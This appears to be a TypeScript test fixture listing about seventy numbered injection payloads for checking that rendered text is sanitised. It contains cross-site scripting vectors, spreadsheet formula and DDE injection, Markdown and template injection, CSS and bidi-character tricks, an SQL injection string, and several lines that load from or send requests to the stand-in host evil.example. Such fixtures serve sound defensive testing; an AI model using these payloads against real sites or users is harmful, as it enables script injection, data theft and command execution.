/** One hostile text; it calls `hit(n)`, asks evil.example for /n, or breaks what is around it. */
export interface Payload {
  readonly n: number;
  readonly text: string;
  /** Has double braces: refused in texts of personas, which have placeholders there. */
  readonly braces: boolean;
}

const D = "$"; // a dollar sign that starts nothing here

// Those whose place is the beginning of a text come first: each slot of the test begins with one of them.
const TEXTS: readonly ((n: number) => string)[] = [
  (n) => `--- head: <script>hit(${n})</script> ---`,
  (n) => `=HYPERLINK("https://evil.example/${n}","x")`,
  (n) => "```js hit(" + n + ") ```",
  (n) => `~~~js echo hit(${n}) ~~~`,
  (n) => `</title><script>hit(${n})</script>`,
  (n) => `@SUM(1+${n})*cmd|' /C calc'!A0`,
  (n) => `+${n}+cmd|' /C calc'!A0`,
  (n) => `-${n}+cmd|' /C calc'!A0`,
  (n) => `javascript:hit(${n})`,
  (n) => `# <img src=x onerror=hit(${n})>`,
  (n) => `<!-- <script>hit(${n})</script> -->`,
  (n) => `<![CDATA[<script>hit(${n})</script>]]>`,
  (n) => `<?php hit(${n}) ?><script>hit(${n})</script>`,
  (n) => `%3Cscript%3Ehit(${n})%3C/script%3E`,
  (n) => `\u202e<script>hit(${n})</script>\u202c`,
  (n) => `| a | <b onclick=hit(${n})> | |---|---|`,
  // Elements.
  (n) => `<script>hit(${n})</script>`,
  (n) => `<ScRiPt src=//evil.example/${n}></sCrIpT>`,
  (n) => `<img src=x onerror=hit(${n})>`,
  (n) => `<img/src="https://evil.example/${n}"/onload=hit(${n})>`,
  (n) => `<svg onload=hit(${n})>`,
  (n) => `<svg><animate onbegin=hit(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><script href="data:text/javascript,hit(${n})"/></svg>`,
  (n) => `<iframe src="javascript:parent.hit(${n})"></iframe>`,
  (n) => `<iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
  (n) => `<object data="https://evil.example/${n}"></object>`,
  (n) => `<embed src="https://evil.example/${n}">`,
  (n) => `<link rel=stylesheet href="https://evil.example/${n}.css">`,
  (n) => `<style>@import "https://evil.example/${n}.css";</style>`,
  (n) => `</style><script>hit(${n})</script>`,
  (n) => `<meta http-equiv=refresh content="0;url=https://evil.example/${n}">`,
  (n) => `<base href="https://evil.example/${n}/">`,
  (n) => `<form action="https://evil.example/${n}"><button autofocus onfocus=hit(${n})>x`,
  (n) => `<video><source onerror=hit(${n})></video>`,
  (n) => `<details open ontoggle=hit(${n})>x</details>`,
  (n) => `<math><mtext></mtext><mglyph><style><!--</style><img title="--><img src=x onerror=hit(${n})>">`,
  (n) => `<template><script>hit(${n})</script></template>`,
  (n) => `</textarea></noscript></svg></article><script>hit(${n})</script>`,
  (n) => `<input autofocus onfocus=hit(${n})>`,
  (n) => `<body onpageshow=hit(${n})>`,
  // Out of attributes and elements.
  (n) => `"><script>hit(${n})</script>`,
  (n) => `'><script>hit(${n})</script>`,
  (n) => `" onmouseover="hit(${n})`,
  (n) => `' onmouseover='hit(${n})`,
  (n) => "` onmouseover=`hit(" + n + ")",
  (n) => `x" autofocus tabindex=1 onfocus="hit(${n})" y="`,
  (n) => `\\"><img src=x onerror=hit(${n})>`,
  (n) => `&#34;&#62;&lt;img src=x onerror=hit(${n})&gt;&quot;`,
  (n) => `&lt;script&gt;hit(${n})&lt;/script&gt;`,
  (n) => `&#x6a;avascript&colon;hit(${n})`,
  // Markdown.
  (n) => `[a](javascript:hit(${n}))`,
  (n) => `[b](JaVaScRiPt&colon;hit(${n}))`,
  (n) => `[c](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==#${n})`,
  (n) => `[d](vbscript:hit(${n}))`,
  (n) => `![e](javascript:hit(${n}))`,
  (n) => `![f](https://evil.example/${n}.png)`,
  (n) => `<javascript:hit(${n})>`,
  (n) => `[g][r${n}] [r${n}]: javascript:hit(${n})`,
  (n) => `[h](https://x.example/"onmouseover="hit(${n}))`,
  // Code that runs in pages of Framework, and templates.
  (n) => `${D}{hit(${n})}`,
  (n) => `${D}{"$"}{hit(${n})}`,
  (n) => `<code>${D}{hit(${n})}</code>`,
  (n) => `\`${D}{hit(${n})}\``,
  (n) => `{{{constructor.constructor("hit(${n})")()}}}`,
  (n) => `{{#report}}hit(${n}){{/report}}`,
  (n) => `<%= hit(${n}) %>`,
  // Styles, and signs that are not seen.
  (n) => `red;background:url(https://evil.example/${n}.gif)`,
  (n) => `expression(hit(${n}))`,
  (n) => `a\u200b\ufeff<scr\u200bipt>hit(${n})</script>`,
  (n) => `'; DROP TABLE users; -- ${n}`,
  (n) => `\u2066${n}\u2069 \u00ad<a href="//evil.example/${n}">x</a>`,
  (n) => `<a href="&#1;javascript:hit(${n})">x</a>`
];

/** All payloads, numbered from 101, so that a number is not found by chance. */
export const PAYLOADS: readonly Payload[] = TEXTS.map((make, i) => {
  const text = make(101 + i);
  return {n: 101 + i, text, braces: text.includes("{{")};
});
